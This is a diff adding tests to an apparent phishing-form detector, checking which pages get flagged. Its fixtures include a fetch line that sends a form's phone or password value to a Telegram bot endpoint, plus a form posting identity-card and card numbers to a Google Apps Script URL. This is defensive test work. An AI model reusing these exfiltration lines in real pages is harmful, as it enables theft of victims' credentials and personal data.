@@ -138,6 +138,31 @@ describe('§2.5.13 harmless pages that share words with deceptive ones', () => {
       assert.equal(found(brand, url), true, url);
   });
 
+  it('a login beside code that only shows the endpoint of a messenger, or a bundle that writes to one, is no phishing_form', () => {
+    const sends = 'fetch("https://api.telegram.org/bot1:a/sendMessage",{body:phone.value})';
+    const filler = ';var a=1'.repeat(3_000);
+    const bodyOf = (text: string) => [
+      { url: PAGE, resource_type: 'script', content_type: '', bytes: text.length, text },
+    ];
+    const shown = (html: string) => slugsOf({ html }, [form({})]);
+    assert.deepEqual(shown(`<pre>${sends}</pre><a href="https://api.telegram.org/bot1:a/getMe">try</a>`), []);
+    assert.deepEqual(shown(`<script>${sends}</script>`), ['phishing_form']);
+    assert.deepEqual(shown(`<form onsubmit="fetch('https://api.telegram.org/bot1:a/sendMessage')">`), [
+      'phishing_form',
+    ]);
+    const loaded = (script: string) => slugsOf({}, [form({})], { bodies: bodyOf(script) });
+    assert.deepEqual(loaded(`password:!0${filler}${sends}${filler}`), []);
+    assert.deepEqual(loaded(`${filler}${sends}${filler}${sends.replace('phone', 'pass')}`), ['phishing_form']);
+    assert.deepEqual(loaded(sends), ['phishing_form']);
+  });
+
+  it('a form without a server of its own that asks for the number of an identity card is no phishing_form', () => {
+    const sent = (fields: ObservationOf<'form'>['facts']['fields']) =>
+      slugsOf({}, [form({ fields, action_url: 'https://script.google.com/macros/s/1/exec' })]);
+    assert.deepEqual(sent(['personal_id', 'phone']), []);
+    assert.deepEqual(sent(['personal_id', 'card_number']), ['phishing_form']);
+  });
+
   it('a form that asks for an account of a messenger as a contact is no phishing_form', () => {
     const signUp = (text: string) => slugsOf({}, [form({ text })]);
     assert.deepEqual(signUp('E-mail\nPassword\nTelegram account\nYour LinkedIn account'), []);
